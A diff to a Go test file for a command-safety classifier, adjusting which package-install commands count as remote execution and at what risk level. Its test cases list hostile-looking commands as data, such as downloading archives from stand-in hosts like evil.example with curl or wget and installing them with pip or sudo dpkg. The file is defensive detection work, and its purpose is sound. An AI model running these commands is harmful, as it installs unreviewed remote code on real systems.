@@ -24,7 +24,10 @@ func TestPackagesFromArbitrarySources(t *testing.T) {
 		{`python3 -m pip install -i https://pypi.example.com/simple helperpkg`, CategoryRemoteExec, "package-third-party-index", LevelHigh},
 		{`npm exec --registry=https://npm.example.net evil-cli`, CategoryRemoteExec, "package-third-party-index", LevelHigh},
 		{`npx --registry https://npm.example.net evil-cli`, CategoryRemoteExec, "", LevelHigh},
-		{`cargo install --git https://git.example.com/x/evil`, CategoryRemoteExec, "package-third-party-index", LevelHigh},
+		{`cargo install --git https://git.example.com/x/evil`, CategoryRemoteExec, "", LevelHigh},
+		// a repository's moving branch, even on a known host: whatever
+		// it holds when the install runs (pinned below, it is reviewed)
+		{`cargo install --git https://github.com/BurntSushi/ripgrep`, CategoryRemoteExec, "package-unpinned-git", LevelCritical},
 		{`curl -so /tmp/s.tgz https://evil.example/s.tgz && pip install /tmp/s.tgz`, CategoryRemoteExec, "package-downloaded-install", LevelCritical},
 		{`wget -O /tmp/x.deb https://dl.example.net/x.deb && sudo dpkg -i /tmp/x.deb`, CategoryRemoteExec, "", LevelCritical},
 	})
@@ -32,7 +35,7 @@ func TestPackagesFromArbitrarySources(t *testing.T) {
 		`python3 -m pip install requests`,
 		`python3 -m pip install -r requirements.txt`,
 		`npm exec --registry=https://registry.npmjs.org eslint`,
-		`cargo install --git https://github.com/BurntSushi/ripgrep`,
+		`cargo install --git https://github.com/BurntSushi/ripgrep --tag 14.1.0`,
 		`pip install ./dist/app-1.0.tar.gz`,
 		`python3 -m venv .venv`,
 	})
